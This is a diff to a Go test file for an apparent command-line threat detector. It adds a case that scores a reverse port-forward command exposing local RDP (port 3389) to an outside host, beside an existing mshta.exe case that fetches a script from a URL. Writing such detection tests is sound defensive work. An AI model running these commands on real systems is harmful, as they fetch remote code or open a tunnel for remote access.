@@ -88,6 +88,9 @@ func TestCommandLine(t *testing.T) {
 		{"script from an address", "given code from the network", func(s *scene) {
 			s.link(s.process(system32+"mshta.exe", commandLineIs(`mshta.exe https://files.example/a`)), outside)
 		}, 40},
+		{"forwarded port", "carries other connections", func(s *scene) {
+			s.link(s.process(ordinary, commandLineIs(`client.exe -N -R 13389:127.0.0.1:3389 ann@203.0.113.7`)), outside)
+		}, 35},
 		{"error action", "-ErrorAction is no -EncodedCommand", func(s *scene) {
 			s.link(s.process(powershell, commandLineIs(`powershell.exe -ErrorAction SilentlyContinue -File C:\Scripts\inventory.ps1`)), outside)
 		}, 0},
